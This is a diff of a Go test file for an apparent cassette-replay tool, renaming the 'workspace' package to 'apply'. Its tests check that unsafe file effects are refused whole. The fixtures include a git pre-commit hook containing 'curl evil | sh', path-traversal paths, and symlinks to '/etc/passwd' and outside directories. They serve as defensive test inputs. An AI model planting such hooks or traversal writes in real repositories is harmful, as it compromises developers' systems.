@@ -1,4 +1,4 @@
-package workspace_test
+package apply_test
 
 import (
 	"bytes"
@@ -15,7 +15,7 @@ import (
 	"testing"
 
 	"github.com/agentvcr/agentvcr/cassette"
-	"github.com/agentvcr/agentvcr/internal/workspace"
+	"github.com/agentvcr/agentvcr/internal/apply"
 )
 
 // fx is one effect of a test cassette, with its content.
@@ -65,13 +65,13 @@ func tape(t testing.TB, h cassette.Header, effects ...fx) []byte {
 	return buf.Bytes()
 }
 
-func readPlan(t testing.TB, data []byte) (*workspace.Plan, error) {
+func readPlan(t testing.TB, data []byte) (*apply.Plan, error) {
 	t.Helper()
 	rd, err := cassette.NewReader(bytes.NewReader(data), "evil.cassette")
 	if err != nil {
 		return nil, err
 	}
-	p, err := workspace.ReadPlan(rd)
+	p, err := apply.ReadPlan(rd)
 	if err == nil {
 		t.Cleanup(func() { p.Close() })
 	}
@@ -120,13 +120,13 @@ func (s sandbox) state(t testing.TB) string {
 	return b.String()
 }
 
-func (s sandbox) apply(t testing.TB, data []byte, opts workspace.ApplyOptions) (*workspace.Result, error) {
+func (s sandbox) apply(t testing.TB, data []byte, opts apply.ApplyOptions) (*apply.Result, error) {
 	t.Helper()
 	p, err := readPlan(t, data)
 	if err != nil {
 		return nil, err
 	}
-	return workspace.Apply(s.root, p, opts)
+	return apply.Apply(s.root, p, opts)
 }
 
 // refused applies a cassette that must be refused whole, and checks that
@@ -134,7 +134,7 @@ func (s sandbox) apply(t testing.TB, data []byte, opts workspace.ApplyOptions) (
 func refused(t *testing.T, s sandbox, data []byte, want error, msg string) {
 	t.Helper()
 	before := s.state(t)
-	_, err := s.apply(t, data, workspace.ApplyOptions{})
+	_, err := s.apply(t, data, apply.ApplyOptions{})
 	if !errors.Is(err, want) || !strings.Contains(err.Error(), msg) {
 		t.Fatalf("err = %v; want %v naming %q", err, want, msg)
 	}
@@ -151,14 +151,14 @@ func refused(t *testing.T, s sandbox, data []byte, want error, msg string) {
 func TestApplyLinkChainEscape(t *testing.T) {
 	s := newSandbox(t)
 	data := tape(t, cassette.Header{}, mkdir("d"), link("d/up", ".."), link("esc", "d/up/.."), create("esc/outside/pwned.txt", "pwned\n"))
-	refused(t, s, data, workspace.ErrUnsafe, `"esc" links to "d/up/..", outside the working directory (line 7), "esc/outside/pwned.txt" passes through the symbolic link esc (line 8)`)
+	refused(t, s, data, apply.ErrUnsafe, `"esc" links to "d/up/..", outside the working directory (line 7), "esc/outside/pwned.txt" passes through the symbolic link esc (line 8)`)
 	// Without the write, the escaping link alone is refused all the same.
 	data = tape(t, cassette.Header{}, mkdir("d"), link("d/up", ".."), link("esc", "d/up/.."))
-	refused(t, s, data, workspace.ErrUnsafe, `"esc" links to "d/up/..", outside`)
+	refused(t, s, data, apply.ErrUnsafe, `"esc" links to "d/up/..", outside`)
 	// A link already in the tree counts too.
 	os.Symlink("..", filepath.Join(s.root, "up"))
 	data = tape(t, cassette.Header{}, link("esc2", "up/outside"))
-	refused(t, s, data, workspace.ErrUnsafe, `"esc2" links to "up/outside", outside`)
+	refused(t, s, data, apply.ErrUnsafe, `"esc2" links to "up/outside", outside`)
 }
 
 // A write through a link, made by the cassette or already there, is
@@ -167,13 +167,13 @@ func TestApplyNeverWritesThroughLinks(t *testing.T) {
 	s := newSandbox(t)
 	os.Mkdir(filepath.Join(s.root, "sub"), 0o755)
 	refused(t, s, tape(t, cassette.Header{}, link("dl", "sub"), create("dl/x.txt", "x\n")),
-		workspace.ErrUnsafe, `"dl/x.txt" passes through the symbolic link dl`)
+		apply.ErrUnsafe, `"dl/x.txt" passes through the symbolic link dl`)
 	os.Symlink(s.outside, filepath.Join(s.root, "out"))
-	refused(t, s, tape(t, cassette.Header{}, create("out/x.txt", "x\n")), workspace.ErrUnsafe, "passes through the symbolic link out")
+	refused(t, s, tape(t, cassette.Header{}, create("out/x.txt", "x\n")), apply.ErrUnsafe, "passes through the symbolic link out")
 	os.Symlink("keep.txt", filepath.Join(s.root, "lk"))
-	refused(t, s, tape(t, cassette.Header{}, modify("lk", "mine\n", "evil\n")), workspace.ErrConflict, "lk: is a symbolic link")
+	refused(t, s, tape(t, cassette.Header{}, modify("lk", "mine\n", "evil\n")), apply.ErrConflict, "lk: is a symbolic link")
 	// --force replaces the link by a file: the file it pointed to is untouched.
-	if _, err := s.apply(t, tape(t, cassette.Header{}, modify("lk", "mine\n", "evil\n")), workspace.ApplyOptions{Force: true}); err != nil {
+	if _, err := s.apply(t, tape(t, cassette.Header{}, modify("lk", "mine\n", "evil\n")), apply.ApplyOptions{Force: true}); err != nil {
 		t.Fatal(err)
 	}
 	if got, _ := os.ReadFile(filepath.Join(s.root, "keep.txt")); string(got) != "mine\n" {
@@ -190,18 +190,18 @@ func TestApplyNeverTouchesGit(t *testing.T) {
 	s := newSandbox(t)
 	// A file named like a killed Apply's leftover is not swept out of .git
 	// for a cassette that is refused.
-	os.WriteFile(filepath.Join(s.root, ".git", "hooks", workspace.TempPrefix+"4242-00-1.new"), []byte("git's\n"), 0o644)
+	os.WriteFile(filepath.Join(s.root, ".git", "hooks", apply.TempPrefix+"4242-00-1.new"), []byte("git's\n"), 0o644)
 	hook := create(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
 	hook.Mode = "0755"
-	refused(t, s, tape(t, cassette.Header{}, hook), workspace.ErrUnsafe, `evil.cassette:5: unsafe path: ".git/hooks/pre-commit" is in .git`)
-	refused(t, s, tape(t, cassette.Header{}, create(".GIT/config", "x")), workspace.ErrUnsafe, "is in .git")
-	refused(t, s, tape(t, cassette.Header{}, create("sub/.git/config", "x")), workspace.ErrUnsafe, "is in .git")
-	refused(t, s, tape(t, cassette.Header{}, link("hooks", ".git/hooks")), workspace.ErrUnsafe, `"hooks" links to ".git/hooks", into .git`)
-	refused(t, s, tape(t, cassette.Header{}, mkdir("x"), link("x/h", "../.git")), workspace.ErrUnsafe, "into .git")
-	refused(t, s, tape(t, cassette.Header{}, del(".git/HEAD", "ref\n")), workspace.ErrUnsafe, "is in .git")
+	refused(t, s, tape(t, cassette.Header{}, hook), apply.ErrUnsafe, `evil.cassette:5: unsafe path: ".git/hooks/pre-commit" is in .git`)
+	refused(t, s, tape(t, cassette.Header{}, create(".GIT/config", "x")), apply.ErrUnsafe, "is in .git")
+	refused(t, s, tape(t, cassette.Header{}, create("sub/.git/config", "x")), apply.ErrUnsafe, "is in .git")
+	refused(t, s, tape(t, cassette.Header{}, link("hooks", ".git/hooks")), apply.ErrUnsafe, `"hooks" links to ".git/hooks", into .git`)
+	refused(t, s, tape(t, cassette.Header{}, mkdir("x"), link("x/h", "../.git")), apply.ErrUnsafe, "into .git")
+	refused(t, s, tape(t, cassette.Header{}, del(".git/HEAD", "ref\n")), apply.ErrUnsafe, "is in .git")
 	ign := cassette.Header{Ignore: []string{"*.log", "build"}}
-	refused(t, s, tape(t, ign, create("a/b.log", "x")), workspace.ErrUnsafe, `"a/b.log" matches "*.log", which the recording ignored`)
-	refused(t, s, tape(t, ign, create("build/out", "x")), workspace.ErrUnsafe, `matches "build"`)
+	refused(t, s, tape(t, ign, create("a/b.log", "x")), apply.ErrUnsafe, `"a/b.log" matches "*.log", which the recording ignored`)
+	refused(t, s, tape(t, ign, create("build/out", "x")), apply.ErrUnsafe, `matches "build"`)
 }
 
 // Paths that leave the directory by their text.
@@ -210,7 +210,7 @@ func TestApplyRefusesEscapingPaths(t *testing.T) {
 	for _, e := range []fx{create("../outside/x", "x"), create("/tmp/abs", "x"), create("a/../../x", "x"), create("a//b", "x"),
 		link("l", "../outside"), link("l", "/etc/passwd"), link("a/l", "../../outside"), del("../outside/secret.txt", "outside\n")} {
 		t.Run(e.Path+e.Target, func(t *testing.T) {
-			refused(t, s, tape(t, cassette.Header{}, create("fine.txt", "ok\n"), e), workspace.ErrUnsafe, "")
+			refused(t, s, tape(t, cassette.Header{}, create("fine.txt", "ok\n"), e), apply.ErrUnsafe, "")
 		})
 	}
 }
@@ -271,19 +271,19 @@ func TestApplyAllOrNothing(t *testing.T) {
 	os.Mkdir(filepath.Join(s.root, "full"), 0o755)
 	os.WriteFile(filepath.Join(s.root, "full", "other.txt"), []byte("x"), 0o644)
 	refused(t, s, tape(t, cassette.Header{}, create("a.txt", "a\n"), del("keep.txt", "mine\n"), rmdir("full")),
-		workspace.ErrBlocked, "full: holds full/other.txt, which the cassette does not remove")
+		apply.ErrBlocked, "full: holds full/other.txt, which the cassette does not remove")
 
 	long := strings.Repeat("d/", 2100) + "f"
-	refused(t, s, tape(t, cassette.Header{}, create("a.txt", "a\n"), create(long, "x")), workspace.ErrBlocked, "longer than PATH_MAX")
-	refused(t, s, tape(t, cassette.Header{}, create("a.txt", "a\n"), create(strings.Repeat("n", 256), "x")), workspace.ErrBlocked, "a name longer than 255 bytes")
-	refused(t, s, tape(t, cassette.Header{}, create("keep.txt/x", "a\n")), workspace.ErrBlocked, "keep.txt is not a directory")
+	refused(t, s, tape(t, cassette.Header{}, create("a.txt", "a\n"), create(long, "x")), apply.ErrBlocked, "longer than PATH_MAX")
+	refused(t, s, tape(t, cassette.Header{}, create("a.txt", "a\n"), create(strings.Repeat("n", 256), "x")), apply.ErrBlocked, "a name longer than 255 bytes")
+	refused(t, s, tape(t, cassette.Header{}, create("keep.txt/x", "a\n")), apply.ErrBlocked, "keep.txt is not a directory")
 
 	if os.Geteuid() != 0 {
 		ro := filepath.Join(s.root, "ro")
 		os.Mkdir(ro, 0o555)
 		t.Cleanup(func() { os.Chmod(ro, 0o755) })
 		before := s.state(t)
-		_, err := s.apply(t, tape(t, cassette.Header{}, create("a.txt", "a\n"), mkdir("new"), create("new/b.txt", "b\n"), create("ro/x.txt", "x\n")), workspace.ApplyOptions{})
+		_, err := s.apply(t, tape(t, cassette.Header{}, create("a.txt", "a\n"), mkdir("new"), create("new/b.txt", "b\n"), create("ro/x.txt", "x\n")), apply.ApplyOptions{})
 		if err == nil || !strings.Contains(err.Error(), "ro/x.txt: permission denied; nothing was written") {
 			t.Errorf("read-only directory: %v", err)
 		}
@@ -312,10 +312,10 @@ func TestApplyRollsBack(t *testing.T) {
 		del("gone.txt", "bye\n"), del("olddir/x", "x\n"), rmdir("olddir"), link("lnk", "edit.txt"), chmod, create("z.txt", "z\n")}
 	data := tape(t, cassette.Header{}, effects...)
 	var order []string
-	workspace.SetCommitHook(func(p string) error { order = append(order, p); return nil })
-	t.Cleanup(func() { workspace.SetCommitHook(nil) })
+	apply.SetCommitHook(func(p string) error { order = append(order, p); return nil })
+	t.Cleanup(func() { apply.SetCommitHook(nil) })
 	dry := tree()
-	if _, err := dry.apply(t, data, workspace.ApplyOptions{}); err != nil {
+	if _, err := dry.apply(t, data, apply.ApplyOptions{}); err != nil {
 		t.Fatal(err)
 	}
 	if len(order) < 8 {
@@ -325,14 +325,14 @@ func TestApplyRollsBack(t *testing.T) {
 	for at := range order {
 		before := s.state(t)
 		n := 0
-		workspace.SetCommitHook(func(p string) error {
+		apply.SetCommitHook(func(p string) error {
 			if n++; n == at+1 {
 				return fmt.Errorf("injected failure")
 			}
 			return nil
 		})
-		_, err := s.apply(t, data, workspace.ApplyOptions{})
-		var ae *workspace.ApplyError
+		_, err := s.apply(t, data, apply.ApplyOptions{})
+		var ae *apply.ApplyError
 		if !errors.As(err, &ae) || !ae.RolledBack || !strings.Contains(err.Error(), order[at]+": injected failure; rolled back: the working directory is as it was") {
 			t.Errorf("failing at %s: %v", order[at], err)
 		}
@@ -340,8 +340,8 @@ func TestApplyRollsBack(t *testing.T) {
 			t.Errorf("failing at %s, the tree changed:\nbefore:\n%s\nafter:\n%s", order[at], before, after)
 		}
 	}
-	workspace.SetCommitHook(nil)
-	res, err := s.apply(t, data, workspace.ApplyOptions{})
+	apply.SetCommitHook(nil)
+	res, err := s.apply(t, data, apply.ApplyOptions{})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -360,18 +360,18 @@ func TestApplySignals(t *testing.T) {
 	sigs := make(chan os.Signal, 1)
 	sigs <- syscall.SIGTERM
 	before := s.state(t)
-	res, err := s.apply(t, data, workspace.ApplyOptions{Signals: sigs})
-	if !errors.Is(err, workspace.ErrInterrupted) || res.Signal != syscall.SIGTERM || s.state(t) != before {
+	res, err := s.apply(t, data, apply.ApplyOptions{Signals: sigs})
+	if !errors.Is(err, apply.ErrInterrupted) || res.Signal != syscall.SIGTERM || s.state(t) != before {
 		t.Errorf("signal before the commit: %v, %v; tree:\n%s", err, res.Signal, s.state(t))
 	}
-	workspace.SetCommitHook(func(p string) error {
+	apply.SetCommitHook(func(p string) error {
 		if p == "d/a.txt" {
 			sigs <- syscall.SIGINT
 		}
 		return nil
 	})
-	t.Cleanup(func() { workspace.SetCommitHook(nil) })
-	res, err = s.apply(t, data, workspace.ApplyOptions{Signals: sigs})
+	t.Cleanup(func() { apply.SetCommitHook(nil) })
+	res, err = s.apply(t, data, apply.ApplyOptions{Signals: sigs})
 	if err != nil || res.Signal != syscall.SIGINT || len(res.Applied) != 3 {
 		t.Errorf("signal during the commit: %v, %+v", err, res)
 	}
@@ -386,11 +386,11 @@ func TestApplyAfterKill(t *testing.T) {
 	data := tape(t, cassette.Header{}, mkdir("d"), create("d/a.txt", "a\n"), modify("edit.txt", "old\n", "new\n"), del("gone.txt", "bye\n"))
 	// Killed after staging and two steps of the commit.
 	os.Mkdir(filepath.Join(s.root, "d"), 0o755)
-	os.WriteFile(filepath.Join(s.root, "d", workspace.TempPrefix+"4242-00-1.new"), []byte("a\n"), 0o600)
-	os.WriteFile(filepath.Join(s.root, workspace.TempPrefix+"4242-00-2.new"), []byte("new\n"), 0o600)
-	os.Link(filepath.Join(s.root, "edit.txt"), filepath.Join(s.root, workspace.TempPrefix+"4242-00-2.old"))
-	os.Rename(filepath.Join(s.root, "gone.txt"), filepath.Join(s.root, workspace.TempPrefix+"4242-00-3.old"))
-	res, err := s.apply(t, data, workspace.ApplyOptions{})
+	os.WriteFile(filepath.Join(s.root, "d", apply.TempPrefix+"4242-00-1.new"), []byte("a\n"), 0o600)
+	os.WriteFile(filepath.Join(s.root, apply.TempPrefix+"4242-00-2.new"), []byte("new\n"), 0o600)
+	os.Link(filepath.Join(s.root, "edit.txt"), filepath.Join(s.root, apply.TempPrefix+"4242-00-2.old"))
+	os.Rename(filepath.Join(s.root, "gone.txt"), filepath.Join(s.root, apply.TempPrefix+"4242-00-3.old"))
+	res, err := s.apply(t, data, apply.ApplyOptions{})
 	if err != nil || res.Stale != 4 {
 		t.Fatalf("%v, %+v", err, res)
 	}
@@ -399,10 +399,10 @@ func TestApplyAfterKill(t *testing.T) {
 	if string(got) != "new\n" || string(a) != "a\n" {
 		t.Errorf("edit.txt %q, d/a.txt %q", got, a)
 	}
-	if left, _ := filepath.Glob(filepath.Join(s.root, "*", workspace.TempPrefix+"*")); len(left) > 0 {
+	if left, _ := filepath.Glob(filepath.Join(s.root, "*", apply.TempPrefix+"*")); len(left) > 0 {
 		t.Errorf("left: %q", left)
 	}
-	if left, _ := filepath.Glob(filepath.Join(s.root, workspace.TempPrefix+"*")); len(left) > 0 {
+	if left, _ := filepath.Glob(filepath.Join(s.root, apply.TempPrefix+"*")); len(left) > 0 {
 		t.Errorf("left: %q", left)
 	}
 }
@@ -416,7 +416,7 @@ func TestApplyTypeChanges(t *testing.T) {
 	os.WriteFile(filepath.Join(s.root, "was-dir", "sub", "x"), []byte("x\n"), 0o644)
 	data := tape(t, cassette.Header{}, mkdir("was-file"), create("was-dir", "now a file\n"), create("was-file/in.txt", "in\n"),
 		del("was-file", "f\n"), del("was-dir/sub/x", "x\n"), rmdir("was-dir/sub"), rmdir("was-dir"))
-	if _, err := s.apply(t, data, workspace.ApplyOptions{}); err != nil {
+	if _, err := s.apply(t, data, apply.ApplyOptions{}); err != nil {
 		t.Fatal(err)
 	}
 	in, _ := os.ReadFile(filepath.Join(s.root, "was-file", "in.txt"))
@@ -425,7 +425,7 @@ func TestApplyTypeChanges(t *testing.T) {
 		t.Errorf("%q %q", in, f)
 	}
 	// Applied again: all is as recorded.
-	res, err := s.apply(t, data, workspace.ApplyOptions{})
+	res, err := s.apply(t, data, apply.ApplyOptions{})
 	if err != nil || len(res.Applied) != 0 {
 		t.Errorf("again: %v, %q", err, res.Applied)
 	}
@@ -439,7 +439,7 @@ func TestApplyModes(t *testing.T) {
 	tool.Mode = "0755"
 	dir := mkdir("ro")
 	dir.Mode = "0555"
-	if _, err := s.apply(t, tape(t, cassette.Header{}, dir, tool), workspace.ApplyOptions{}); err != nil {
+	if _, err := s.apply(t, tape(t, cassette.Header{}, dir, tool), apply.ApplyOptions{}); err != nil {
 		t.Fatal(err)
 	}
 	t.Cleanup(func() { os.Chmod(filepath.Join(s.root, "ro"), 0o755) })
@@ -449,7 +449,7 @@ func TestApplyModes(t *testing.T) {
 		}
 	}
 	names, _ := os.ReadDir(s.root)
-	if i := slices.IndexFunc(names, func(d fs.DirEntry) bool { return strings.HasPrefix(d.Name(), workspace.TempPrefix) }); i >= 0 {
+	if i := slices.IndexFunc(names, func(d fs.DirEntry) bool { return strings.HasPrefix(d.Name(), apply.TempPrefix) }); i >= 0 {
 		t.Errorf("left %s", names[i].Name())
 	}
 }
@@ -465,7 +465,7 @@ func TestApplyUsesThePlanOnly(t *testing.T) {
 		t.Fatal(err)
 	}
 	defer f.Close()
-	p, err := workspace.ReadPlan(rd)
+	p, err := apply.ReadPlan(rd)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -473,7 +473,7 @@ func TestApplyUsesThePlanOnly(t *testing.T) {
 	evil := tape(t, cassette.Header{}, create("x.txt", "evil\n"), create("pwned", "x"))
 	os.WriteFile(path, evil, 0o644)
 	f.WriteAt(evil, 0)
-	if _, err := workspace.Apply(s.root, p, workspace.ApplyOptions{}); err != nil {
+	if _, err := apply.Apply(s.root, p, apply.ApplyOptions{}); err != nil {
 		t.Fatal(err)
 	}
 	got, _ := os.ReadFile(filepath.Join(s.root, "x.txt"))
@@ -497,13 +497,13 @@ func TestApplyRefusesIncomplete(t *testing.T) {
 // are a format error naming the line where the bound is passed.
 func TestPlanBounds(t *testing.T) {
 	data := tape(t, cassette.Header{}, create("a", "a\n"), create("b", "b\n"), create("c", "c\n"), mkdir("d"))
-	restore := workspace.SetPlanLimits(3, 1<<20)
+	restore := apply.SetPlanLimits(3, 1<<20)
 	_, err := readPlan(t, data)
 	restore()
 	if !errors.Is(err, cassette.ErrFormat) || !strings.Contains(err.Error(), "evil.cassette:11: malformed cassette: more than 3 file effects") {
 		t.Errorf("effects: %v", err)
 	}
-	restore = workspace.SetPlanLimits(100, 200)
+	restore = apply.SetPlanLimits(100, 200)
 	_, err = readPlan(t, data)
 	restore()
 	if !errors.Is(err, cassette.ErrFormat) || !strings.Contains(err.Error(), "evil.cassette:9: malformed cassette: the file effects' descriptions take more than 200 bytes") {
